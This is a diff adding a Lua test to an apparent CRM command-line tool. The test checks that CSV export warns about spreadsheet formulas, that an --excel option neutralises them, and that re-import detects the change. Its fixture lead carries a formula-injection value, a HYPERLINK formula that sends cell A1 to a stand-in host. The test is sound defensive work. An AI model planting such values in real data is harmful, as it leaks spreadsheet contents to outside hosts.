@@ -63,6 +63,28 @@ command.describe("lofty export", function()
     assert.truthy(err:find("stage", 1, true), err)
   end)
 
+  it("warns of formulas; with --excel they are guarded, and lofty import --excel finds no difference", function()
+    local key = on.box.api_keys["113377"] -- an account without leads
+    local crm = require("lofty").client { api_key = key, base_url = on.box.url }
+    assert(crm.leads:create { firstName = '=HYPERLINK("//x/"&A1,"x")', lastName = "'+1", emails = { "x@mail.example" } })
+    local arguments = { "export", "leads", "-f", "firstName,lastName,emails" }
+    local _, out, err = run(arguments, { key = key })
+    assert.truthy(out:find('"=HYPERLINK', 1, true), out)
+    assert.truthy(err:find("would take 1 cell for a formula", 1, true), err)
+    arguments[#arguments + 1] = "--excel"
+    _, out, err = run(arguments, { key = key })
+    assert.truthy(out:find("\n\"'=HYPERLINK", 1, true), out)
+    assert.is_nil(err:find("formula", 1, true), err)
+    local file = on.user:file("leads.csv", out)
+    local code
+    code, out, err = run({ "import", file, "--excel" }, { key = key })
+    assert.equal(0, code, err)
+    assert.truthy(out:find("line 2: skip", 1, true), out)
+    _, out, err = run({ "import", file }, { key = key })
+    assert.truthy(out:find("line 2: update", 1, true), out)
+    assert.truthy(err:find("2 cells with an apostrophe", 1, true), err)
+  end)
+
   describe("with --resume", function()
     -- An output of which everything can be read, sized and cut, as a file can.
     local function file()
